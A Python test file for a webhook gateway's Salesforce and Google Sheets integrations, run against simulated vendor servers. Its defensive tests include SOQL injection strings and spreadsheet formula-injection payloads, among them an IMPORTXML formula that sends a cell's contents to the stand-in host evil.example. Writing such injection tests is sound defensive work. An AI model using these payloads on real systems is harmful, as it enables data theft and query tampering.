"""The recipes that log in with a key of their own, word for word, against servers that behave as the vendors' pages say."""

import json
import re
import textwrap
from collections.abc import Callable, Iterable
from typing import ClassVar, Self

import jwt
import pytest

from gateway.model import Delivery, DeliveryState
from tests.oauth.given import pem, public_pem, rsa_key, world
from tests.oauth_server import AuthorizationServer, answers
from tests.test_docs import ROOT, blocks
from tests.test_lookup_recipes import asked, changed
from tests.vendor import Answer, Call, Vendor
from tests.world import World, story

PENDING, DELIVERED, DEAD = DeliveryState.PENDING, DeliveryState.DELIVERED, DeliveryState.DEAD
HTML = b"<!DOCTYPE html><html><body><h1>We are down for maintenance</h1></body></html>"


def recipe(page: str, which: int, **instead: str) -> str:
    """One of the files of a page, with its addresses and variables replaced and without its tests."""
    text = [block for language, block in blocks(ROOT / "docs" / "how-to" / page) if language == "yaml"][which]
    for name, value in {"${XOBITO_WEBHOOK_SECRET}": "s3cret", **instead}.items():
        assert name in text
        text = text.replace(name, value)
    return re.sub(r"rate: \S+", "rate: none", text.partition("tests:\n")[0])


async def sent(gateway: World, *events: bytes) -> list[Delivery]:
    """The deliveries of these events, which arrive one after the other."""
    ids = []
    for event in events:
        ids.append((await gateway.receive(event)).event_id)
        await gateway.turn()
    return [delivery for id_ in ids for delivery in (await gateway.store.event(id_)).deliveries]


def states(made: Iterable[Delivery]) -> list[DeliveryState]:
    return [each.state for each in made]


class Guarded(Vendor):
    """A vendor whose tokens come from an authorization server of its own."""

    #: Who signs its assertions, and whom they are for.
    ISSUER: ClassVar[str]
    AUDIENCE: ClassVar[str]

    def __init__(self, lasts_s: int) -> None:
        super().__init__()
        self.login = AuthorizationServer(lasts_s=lasts_s, keys={self.ISSUER: public_pem(rsa_key())})
        self.login.audiences = [self.AUDIENCE]
        #: What the next requests are answered instead; None: as usual.
        self.says: list[Answer | None] = []

    def __enter__(self) -> Self:
        self.login.__enter__()
        return super().__enter__()

    def __exit__(self, *error: object) -> None:
        super().__exit__(*error)
        self.login.__exit__(*error)

    def answer(self, call: Call) -> Answer:
        if self.says and (said := self.says.pop(0)) is not None:
            return said
        return self.served(call) if self.login.is_valid(call.headers["authorization"]) else self.unauthorized()

    def served(self, call: Call) -> Answer:
        raise NotImplementedError

    def unauthorized(self) -> Answer:
        raise NotImplementedError

    def end_all_sessions(self) -> None:
        self.login.access.clear()

    def claims(self) -> dict[str, object]:
        """What the last assertion claims."""
        return jwt.decode(self.login.asked[-1]["assertion"], options={"verify_signature": False})


# --- Salesforce ---


def trouble(code: str, message: str) -> object:
    """Errors of Salesforce are a list."""
    return [{"message": message, "errorCode": code}]


class Salesforce(Guarded):
    """Contacts of Salesforce's REST API: upserts by an external id, queries by SOQL. Its tokens do not say how long they last."""

    ISSUER = "3MVG9.client"
    AUDIENCE = "https://login.salesforce.com"
    AT = "/services/data/v62.0"
    KEY = "Xobito_Id__c"
    FIELDS = frozenset({"FirstName", "LastName", "Email", "Phone"})
    QUERY = re.compile(r"SELECT Id FROM Contact WHERE Email = '((?:[^'\\]|\\['\\])*)' ORDER BY CreatedDate LIMIT (\d+)")

    def __init__(self) -> None:
        super().__init__(lasts_s=0)
        #: By id.
        self.contacts: dict[str, dict[str, str]] = {}

    def unauthorized(self) -> Answer:
        return 401, trouble("INVALID_SESSION_ID", "Session expired or invalid")

    def served(self, call: Call) -> Answer:
        path = call.path.removeprefix(self.AT)
        if any(not isinstance(value, str | None) for value in (call.body or {}).values()):
            return 400, trouble(
                "JSON_PARSER_ERROR", "Cannot deserialize instance of string from VALUE_NUMBER_INT value"
            )
        if (call.method, path) == ("GET", "/query"):
            return self.query(call.query["q"])
        if (call.method, path) == ("POST", "/sobjects/Contact"):
            return self.created(call.body)
        if call.method == "PATCH" and (found := re.fullmatch(rf"/sobjects/Contact/{self.KEY}/([^/]+)", path)):
            return self.upserted(found[1], call.body)
        if call.method == "PATCH" and (found := re.fullmatch(r"/sobjects/Contact/([^/]+)", path)):
            return self.updated(found[1], call.body, self.FIELDS | {self.KEY})
        return 404, trouble("NOT_FOUND", "The requested resource does not exist")

    def query(self, text: str) -> Answer:
        found = self.QUERY.fullmatch(text)
        if not found:
            return 400, trouble("MALFORMED_QUERY", f"unexpected token: {text}")
        email = re.sub(r"\\(.)", r"\1", found[1]).lower()
        ids = [id_ for id_, each in self.contacts.items() if each.get("Email", "").lower() == email][: int(found[2])]
        return 200, {"totalSize": len(ids), "done": True, "records": [{"Id": id_} for id_ in ids]}

    def upserted(self, key: str, body: dict[str, str]) -> Answer:
        ids = [id_ for id_, each in self.contacts.items() if each.get(self.KEY) == key]
        if self.KEY in body:
            return 400, trouble("INVALID_FIELD", f"The {self.KEY} field should not be specified in the sobject data.")
        if len(ids) > 1:
            return 300, [f"{self.AT}/sobjects/Contact/{id_}" for id_ in ids]
        return self.updated(ids[0], body, self.FIELDS) if ids else self.created({**body, self.KEY: key})

    def created(self, body: dict[str, str]) -> Answer:
        if unknown := body.keys() - self.FIELDS - {self.KEY}:
            return 400, trouble("INVALID_FIELD", f"No such column '{min(unknown)}' on sobject of type Contact")
        if not body.get("LastName"):
            return 400, trouble("REQUIRED_FIELD_MISSING", "Required fields are missing: [LastName]")
        id_ = f"003xx{len(self.contacts):013}"
        self.contacts[id_] = dict(body)
        return 201, {"id": id_, "success": True, "errors": []}

    def updated(self, id_: str, body: dict[str, str], fields: frozenset[str]) -> Answer:
        if id_ not in self.contacts:
            return 404, trouble("NOT_FOUND", "The requested resource does not exist")
        if unknown := body.keys() - fields:
            return 400, trouble("INVALID_FIELD", f"No such column '{min(unknown)}' on sobject of type Contact")
        if body.get("LastName") == "":
            return 400, trouble("REQUIRED_FIELD_MISSING", "Required fields are missing: [LastName]")
        self.contacts[id_].update(body)
        return 204, None


UPSERT, SEARCH = range(2)


def salesforce(folder, vendor: Salesforce, which: int = UPSERT) -> World:
    (folder / "salesforce.pem").write_text(pem(rsa_key()))
    addresses = {
        "https://login.salesforce.com/services/oauth2/token": vendor.login.token_url,
        "https://acme.my.salesforce.com": vendor.url,
        "${SALESFORCE_CLIENT_ID}": Salesforce.ISSUER,
    }
    return world(folder, recipe("salesforce.md", which, **addresses))


@story
async def test_a_contact_in_salesforce_is_created_and_updated_by_the_key_of_xobito_in_one_request(tmp_path):
    with Salesforce() as vendor:
        async with salesforce(tmp_path, vendor) as gateway:
            change = changed("contact.updated", firstname="Johnny", lastname=None, phone=None)
            made = await sent(
                gateway, changed(), change, changed("contact.updated", lastname="", email="new@example.com")
            )
        assert states(made) == [DELIVERED] * 3
        assert asked(vendor) == ["PATCH /services/data/v62.0/sobjects/Contact/Xobito_Id__c/451"] * 3
        [contact] = vendor.contacts.values()
        assert contact == {
            "Xobito_Id__c": "451", "FirstName": "John", "LastName": "Doe", "Email": "new@example.com",
            "Phone": "+14155551234",
        }  # fmt: skip
        claims = vendor.claims()
        assert (claims["iss"], claims["sub"], claims["aud"]) == (
            Salesforce.ISSUER, "gateway@acme.example", "https://login.salesforce.com",
        )  # fmt: skip
        assert claims["exp"] - claims["iat"] <= 180, "Salesforce refuses an assertion that is valid for longer"


@pytest.mark.parametrize("lastname", [None, ""])
@story
async def test_a_new_contact_without_a_last_name_has_one_in_salesforce(tmp_path, lastname):
    for which in (UPSERT, SEARCH):
        (folder := tmp_path / str(which)).mkdir()
        with Salesforce() as vendor:
            async with salesforce(folder, vendor, which) as gateway:
                assert states(await sent(gateway, changed(lastname=lastname))) == [DELIVERED]
            assert [each["LastName"] for each in vendor.contacts.values()] == ["(unknown)"]


@story
async def test_a_change_of_a_contact_that_salesforce_does_not_have_says_what_is_missing(tmp_path):
    with Salesforce() as vendor:
        async with salesforce(tmp_path, vendor) as gateway:
            [made] = await sent(gateway, changed("contact.updated", lastname=None))
    assert made.state is DEAD
    assert made.reason.startswith("answered 400: Required fields are missing: [LastName]")


@story
async def test_several_contacts_with_one_key_are_dead_and_not_guessed(tmp_path):
    with Salesforce() as vendor:
        vendor.contacts = {name: {"Xobito_Id__c": "451", "LastName": name} for name in ("a", "b")}
        async with salesforce(tmp_path, vendor) as gateway:
            [made] = await sent(gateway, changed())
        assert made.state is DEAD
        assert made.reason.startswith("answered 300: /services/data/v62.0/sobjects/Contact/a (several things are there")
        assert {each["LastName"] for each in vendor.contacts.values()} == {"a", "b"}


@story
async def test_a_contact_in_salesforce_is_found_by_its_address_and_never_there_twice(tmp_path):
    with Salesforce() as vendor:
        vendor.contacts["003old"] = {"LastName": "Before", "Email": "Old@Example.com", "Phone": "1"}
        async with salesforce(tmp_path, vendor, SEARCH) as gateway:
            made = await sent(
                gateway,
                changed(email="old@example.com", phone=None),
                changed(email="new@example.com"),
                changed("contact.updated", email="new@example.com", firstname="Ann", lastname=None),
                changed("contact.updated", email=None),
            )
        assert states(made) == [DELIVERED] * 3
        assert [call.method for call in vendor.calls] == ["GET", "PATCH", "GET", "POST", "GET", "PATCH"]
        assert [(each["LastName"], each["Phone"]) for each in vendor.contacts.values()] == [
            ("Doe", "1"), ("Doe", "+14155551234"),
        ]  # fmt: skip


@story
async def test_the_other_route_can_prepare_the_upsert_for_contacts_that_were_there_before(tmp_path):
    page = (ROOT / "docs/how-to/salesforce.md").read_text("utf-8")
    key = 'Xobito_Id__c: "{{ attrs.id | string }}"'
    assert f"`{key}`" in page
    with Salesforce() as vendor:
        vendor.contacts["003old"] = {"LastName": "Before", "Email": "john@example.com"}
        async with salesforce(tmp_path, vendor, SEARCH) as gateway:
            text = gateway.folder.joinpath("routes.yaml").read_text("utf-8")
            gateway.reload(text.replace("          FirstName:", f"          {key}\n          FirstName:"))
            made = await sent(gateway, changed(), changed(id=7, email="new@example.com"))
            assert states(made) == [DELIVERED] * 2
        (upserting := tmp_path / "upsert").mkdir()
        async with salesforce(upserting, vendor) as gateway:
            assert states(await sent(gateway, changed("contact.updated", email="moved@example.com"))) == [DELIVERED]
        assert [(each["Xobito_Id__c"], each["Email"]) for each in vendor.contacts.values()] == [
            ("451", "moved@example.com"), ("7", "new@example.com"),
        ]  # fmt: skip


@pytest.mark.parametrize(
    "email", ["o'neil@example.com", "x' OR Email LIKE '%", "back\\slash@example.com", "\\' OR Id != '", "a\\\\'@b.c"]
)
@story
async def test_an_address_cannot_end_the_text_of_the_query(tmp_path, email):
    with Salesforce() as vendor:
        vendor.contacts["003other"] = {"LastName": "Other", "Email": "other@example.com"}
        async with salesforce(tmp_path, vendor, SEARCH) as gateway:
            made = await sent(gateway, changed(email=email), changed("contact.updated", email=email, phone="2"))
        assert states(made) == [DELIVERED] * 2
        assert vendor.contacts.pop("003other") == {"LastName": "Other", "Email": "other@example.com"}
        [contact] = vendor.contacts.values()
        assert (contact["Email"], contact["Phone"]) == (email, "2")


@pytest.mark.parametrize("which", [UPSERT, SEARCH])
@story
async def test_a_session_of_salesforce_that_ends_in_the_middle_costs_one_request(tmp_path, which):
    with Salesforce() as vendor:
        async with salesforce(tmp_path, vendor, which) as gateway:
            before = await sent(gateway, changed())
            vendor.end_all_sessions()
            after = await sent(gateway, changed("contact.updated", phone="2"), changed("contact.updated", phone="3"))
        assert states([*before, *after]) == [DELIVERED] * 3
        assert vendor.login.count("urn:ietf:params:oauth:grant-type:jwt-bearer") == 2
        assert len(vendor.calls) == (4 if which == UPSERT else 7)
        [contact] = vendor.contacts.values()
        assert contact["Phone"] == "3"


@story
async def test_a_session_that_ends_between_the_look_up_and_the_write_is_renewed_as_well(tmp_path):
    with Salesforce() as vendor:
        vendor.says = [None, vendor.unauthorized()]
        async with salesforce(tmp_path, vendor, SEARCH) as gateway:
            assert states(await sent(gateway, changed())) == [DELIVERED]
        assert [call.method for call in vendor.calls] == ["GET", "POST", "POST"]
        assert len(vendor.contacts) == 1


@story
async def test_when_the_requests_of_the_day_are_used_up_nothing_is_given_up(tmp_path):
    full = 403, trouble("REQUEST_LIMIT_EXCEEDED", "TotalRequests Limit exceeded.")
    with Salesforce() as vendor:
        vendor.says = [full] * 100
        async with salesforce(tmp_path, vendor) as gateway:
            made = await sent(gateway, *(changed(id=number) for number in range(5)))
            assert states(made) == [PENDING] * 5
            assert made[0].reason.startswith("answered 403: TotalRequests Limit exceeded.")
            await gateway.later(20 * 3600)
            used = 100 - len(vendor.says)
            assert used < 40, "the destination is held, and only one event at a time tries"
            vendor.says = []
            await gateway.later(3600)
            await gateway.later(3600)
            ids = [each.event_id for each in made]
            assert states([await gateway.delivery(id_) for id_ in ids]) == [DELIVERED] * 5


@pytest.mark.parametrize(
    ("said", "state", "reason"),
    [
        pytest.param((500, trouble("UNKNOWN_EXCEPTION", "An unexpected error occurred.")), PENDING,
                     "answered 500: An unexpected error occurred.", id="500"),
        pytest.param((503, HTML), PENDING, "answered 503", id="503-html"),
        pytest.param((200, HTML), PENDING, "answered 200, but no rule of success matched", id="200-html"),
        pytest.param((429, trouble("X", "slow down"), {"retry-after": "90"}), PENDING, "answered 429", id="429"),
        pytest.param((400, trouble("DUPLICATES_DETECTED", "Use one of these records?")), DEAD,
                     "answered 400: Use one of these records?", id="duplicate-rule"),
        pytest.param((400, trouble("UNABLE_TO_LOCK_ROW", "unable to obtain exclusive access to this record")), DEAD,
                     "answered 400: unable to obtain exclusive access", id="locked"),
        pytest.param((302, b"", {"location": "https://login.salesforce.com/?ec=302"}), DEAD, "redirects are not followed",
                     id="redirect"),
    ],
)  # fmt: skip
@story
async def test_what_salesforce_answers_and_what_becomes_of_the_delivery(tmp_path, said, state, reason):
    with Salesforce() as vendor:
        vendor.says = [said]
        async with salesforce(tmp_path, vendor) as gateway:
            [made] = await sent(gateway, changed())
            assert made.state is state
            assert made.reason.startswith(reason)
            if state is PENDING:
                await gateway.later(80)
                assert len(vendor.contacts) == (said[0] != 429)
                await gateway.later(20)
                assert states([await gateway.delivery(made.event_id)]) == [DELIVERED]


@story
async def test_a_page_of_html_in_answer_to_a_write_is_not_a_contact(tmp_path):
    with Salesforce() as vendor:
        vendor.says = [None, (200, HTML)]
        async with salesforce(tmp_path, vendor, SEARCH) as gateway:
            [made] = await sent(gateway, changed())
            assert made.state is PENDING
            await gateway.later(5)
            assert states([await gateway.delivery(made.event_id)]) == [DELIVERED]
        assert len(vendor.contacts) == 1


@story
async def test_a_page_of_html_in_a_look_up_creates_no_contact(tmp_path):
    with Salesforce() as vendor:
        vendor.contacts["003old"] = {"LastName": "Before", "Email": "john@example.com"}
        vendor.says = [(200, HTML)]
        async with salesforce(tmp_path, vendor, SEARCH) as gateway:
            [made] = await sent(gateway, changed())
            assert made.state is PENDING
            assert made.reason.startswith("fetch found: salesforce answered 200")
            await gateway.later(5)
            assert states([await gateway.delivery(made.event_id)]) == [DELIVERED]
        assert list(vendor.contacts) == ["003old"]


@story
async def test_a_user_who_has_not_approved_the_app_pauses_salesforce_and_says_so(tmp_path):
    refused = answers(400, {"error": "invalid_grant", "error_description": "user hasn't approved this consumer"})
    with Salesforce() as vendor:
        vendor.login.behave(refused, refused)
        async with salesforce(tmp_path, vendor) as gateway:
            [made] = await sent(gateway, changed())
            assert made.state is PENDING
            assert gateway.dispatcher.holds.health("salesforce").startswith("paused by the gateway")
            assert "user hasn't approved this consumer" in gateway.dispatcher.holds.health("salesforce")
        assert vendor.calls == []


# --- Google Sheets ---


def refusal(code: int, status: str, message: str) -> Answer:
    return code, {"error": {"code": code, "message": message, "status": status}}


def typed(value: object) -> object:
    """What a cell holds after a value was entered as a person types it."""
    if not isinstance(value, str):
        return value
    if value.startswith("'"):
        return value[1:]
    if value.startswith("=") or (value.startswith(("+", "-")) and not value[1:].isdigit()):
        return ("formula", value.removeprefix("="))
    return int(value) if re.fullmatch(r"[+-]?\d+", value) else value


class Sheets(Guarded):
    """One spreadsheet of Google's Sheets API v4, whose sheet is called Contacts."""

    ISSUER = "gateway@acme.iam.gserviceaccount.com"
    AUDIENCE = "https://oauth2.googleapis.com/token"
    ID = "1mHrPXQILuprO4NdqTgrVKlGazvvzgCFqIphGdsmptD8"
    ENTERED: ClassVar[dict[str, Callable[[object], object]]] = {"RAW": lambda value: value, "USER_ENTERED": typed}

    def __init__(self, lasts_s: int = 3599) -> None:
        super().__init__(lasts_s)
        self.rows: list[list[object]] = [["Event", "Contact", "First name", "Last name", "Phone", "E-mail"]]

    def unauthorized(self) -> Answer:
        return refusal(401, "UNAUTHENTICATED", "Request had invalid authentication credentials.")

    def served(self, call: Call) -> Answer:
        found = re.fullmatch(r"/v4/spreadsheets/([^/]+)/values/([^/]+):append", call.path)
        if call.method != "POST" or not found or found[1] != self.ID:
            return refusal(404, "NOT_FOUND", "Requested entity was not found.")
        if found[2] != "Contacts!A:F":
            return refusal(400, "INVALID_ARGUMENT", f"Unable to parse range: {found[2]}")
        if call.query.get("valueInputOption") not in self.ENTERED:
            return refusal(400, "INVALID_ARGUMENT", "'valueInputOption' is required but not specified")
        if any(isinstance(value, list | dict) for row in call.body["values"] for value in row):
            return refusal(400, "INVALID_ARGUMENT", "Invalid values[0][0]: list_value {}")
        entered = self.ENTERED[call.query["valueInputOption"]]
        self.rows += [[entered(value) for value in row] for row in call.body["values"]]
        return 200, {"spreadsheetId": self.ID, "updates": {"updatedRange": f"Contacts!A{len(self.rows)}"}}


def sheets(folder, vendor: Sheets, **instead: str) -> World:
    account = {
        "type": "service_account", "client_email": Sheets.ISSUER, "private_key": pem(rsa_key()), "private_key_id": "k1",
        "token_uri": vendor.login.token_url,
    }  # fmt: skip
    (folder / "google.json").write_text(json.dumps(account))
    return world(folder, recipe("google-sheets.md", 0, **{"https://sheets.googleapis.com": vendor.url, **instead}))


@story
async def test_a_new_contact_is_a_row_of_the_sheet(tmp_path):
    with Sheets() as vendor:
        async with sheets(tmp_path, vendor) as gateway:
            made = await sent(gateway, changed(), changed(firstname="Ann", lastname=None, email=None))
            assert states(made) == [DELIVERED] * 2
            assert vendor.rows[1:] == [
                [made[0].event_id, 451, "John", "Doe", "+14155551234", "john@example.com"],
                [made[1].event_id, 451, "Ann", "", "+14155551234", ""],
            ]
        claims = vendor.claims()
        assert claims["iss"] == Sheets.ISSUER
        assert claims["scope"] == "https://www.googleapis.com/auth/spreadsheets"


FORMULAS = ["=1+1", '=IMPORTXML("https://evil.example/?" & A2, "//a")', "+A2", "-A2", "@SUM(A2)", "'=1", "0171", "3-4"]


@pytest.mark.parametrize("value", FORMULAS)
@story
async def test_no_value_of_an_event_becomes_a_formula_or_another_value(tmp_path, value):
    with Sheets() as vendor:
        async with sheets(tmp_path, vendor) as gateway:
            assert states(await sent(gateway, changed(firstname=value, phone=value))) == [DELIVERED]
        assert vendor.rows[1][2:5] == [value, "Doe", value]


@pytest.mark.parametrize("value", FORMULAS)
@story
async def test_where_values_are_read_as_typed_an_apostrophe_keeps_them_as_they_are(tmp_path, value):
    typed_in = {"valueInputOption: RAW": "valueInputOption: USER_ENTERED"}
    page = (ROOT / "docs/how-to/google-sheets.md").read_text("utf-8")
    advice = "\"'{{ attrs.firstname | default('') }}\""
    assert f"`{advice}`" in page
    with Sheets() as vendor:
        instead = {**typed_in, "\"{{ attrs.firstname | default('') }}\"": advice}
        async with sheets(tmp_path, vendor, **instead) as gateway:
            assert states(await sent(gateway, changed(firstname=value))) == [DELIVERED]
        assert vendor.rows[1][2] == value
        assert vendor.rows[1][4] == 14155551234, "what it says of a number without one is true"


@story
async def test_gathered_contacts_are_one_request_with_a_row_for_each(tmp_path):
    page = blocks(ROOT / "docs/how-to/google-sheets.md")
    [rows] = [block for language, block in page if language == "jinja"]
    [instead] = [block for language, block in page if "digest" in block and not language]
    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "rows.json.j2").write_text(rows)
    with Sheets() as vendor:
        async with sheets(tmp_path, vendor) as gateway:
            text = (tmp_path / "routes.yaml").read_text("utf-8")
            gateway.reload(text.partition("    body:")[0] + textwrap.indent(instead, "    "))
            ids = [
                (await gateway.receive(changed(id=number, firstname=f'={number} "'))).event_id for number in range(3)
            ]
            await gateway.later(61)
            assert states([await gateway.delivery(id_) for id_ in ids]) == [DELIVERED] * 3
        assert len(vendor.calls) == 1
        assert [row[:3] for row in vendor.rows[1:]] == [[id_, at, f'={at} "'] for at, id_ in enumerate(ids)]


@story
async def test_a_token_of_google_that_is_revoked_in_the_middle_costs_one_request(tmp_path):
    with Sheets() as vendor:
        async with sheets(tmp_path, vendor) as gateway:
            before = await sent(gateway, changed())
            vendor.end_all_sessions()
            after = await sent(gateway, changed(), changed())
        assert states([*before, *after]) == [DELIVERED] * 3
        assert len(vendor.calls) == 4
        assert len(vendor.rows) == 4
        assert len(vendor.login.asked) == 2


@story
async def test_googles_quota_is_waited_for_with_or_without_a_time(tmp_path):
    quota = refusal(429, "RESOURCE_EXHAUSTED", "Quota exceeded for quota metric 'Write requests'")
    with Sheets() as vendor:
        vendor.says = [quota, (*quota, {"retry-after": "60"})]
        async with sheets(tmp_path, vendor) as gateway:
            [made] = await sent(gateway, changed())
            assert (made.state, made.reason.split(" (")[0]) == (
                PENDING, "answered 429: Quota exceeded for quota metric 'Write requests'",
            )  # fmt: skip
            await gateway.later(3)
            [other] = await sent(gateway, changed())
            await gateway.later(50)
            assert len(vendor.calls) == 2, "the second answer holds back everything for a minute"
            for _ in range(3):
                await gateway.later(10)
            assert states([await gateway.delivery(each.event_id) for each in (made, other)]) == [DELIVERED] * 2
        assert len(vendor.rows) == 3


@pytest.mark.parametrize(
    ("said", "state", "reason"),
    [
        pytest.param(refusal(403, "PERMISSION_DENIED", "The caller does not have permission"), PENDING,
                     "answered 403: The caller does not have permission", id="not-shared"),
        pytest.param(refusal(400, "INVALID_ARGUMENT", "Unable to parse range: Leads!A:F"), DEAD,
                     "answered 400: Unable to parse range: Leads!A:F", id="no-such-sheet"),
        pytest.param(refusal(404, "NOT_FOUND", "Requested entity was not found."), DEAD,
                     "answered 404: Requested entity was not found.", id="no-such-spreadsheet"),
        pytest.param(refusal(500, "INTERNAL", "Internal error encountered."), PENDING, "answered 500", id="500"),
        pytest.param((502, HTML), PENDING, "answered 502", id="502-html"),
        pytest.param((200, HTML), PENDING, "answered 200, but no rule of success matched", id="200-html"),
    ],
)  # fmt: skip
@story
async def test_what_google_answers_and_what_becomes_of_the_row(tmp_path, said, state, reason):
    with Sheets() as vendor:
        vendor.says = [said]
        async with sheets(tmp_path, vendor) as gateway:
            [made] = await sent(gateway, changed())
            assert made.state is state
            assert made.reason.startswith(reason)
            if state is PENDING:
                await gateway.later(5)
                assert states([await gateway.delivery(made.event_id)]) == [DELIVERED]
        assert len(vendor.rows) == (2 if state is PENDING else 1)


@story
async def test_a_deleted_key_of_the_account_pauses_the_sheet_and_says_so(tmp_path):
    refused = answers(400, {"error": "invalid_grant", "error_description": "Invalid JWT Signature."})
    with Sheets() as vendor:
        vendor.login.behave(refused, refused)
        async with sheets(tmp_path, vendor) as gateway:
            [made] = await sent(gateway, changed())
            assert made.state is PENDING
            assert gateway.dispatcher.holds.health("sheets").startswith("paused by the gateway")
            assert "Invalid JWT Signature." in gateway.dispatcher.holds.health("sheets")


@pytest.mark.parametrize("said", [answers(200, HTML, Content_Type="text/html"), answers(503, HTML)], ids=["200", "503"])
@story
async def test_a_token_endpoint_that_answers_html_costs_no_row_and_no_budget(tmp_path, said):
    with Sheets() as vendor:
        vendor.login.behave(said)
        async with sheets(tmp_path, vendor) as gateway:
            [made] = await sent(gateway, changed())
            assert made.state is PENDING
            assert vendor.calls == []
            await gateway.later(60)
            assert states([await gateway.delivery(made.event_id)]) == [DELIVERED]
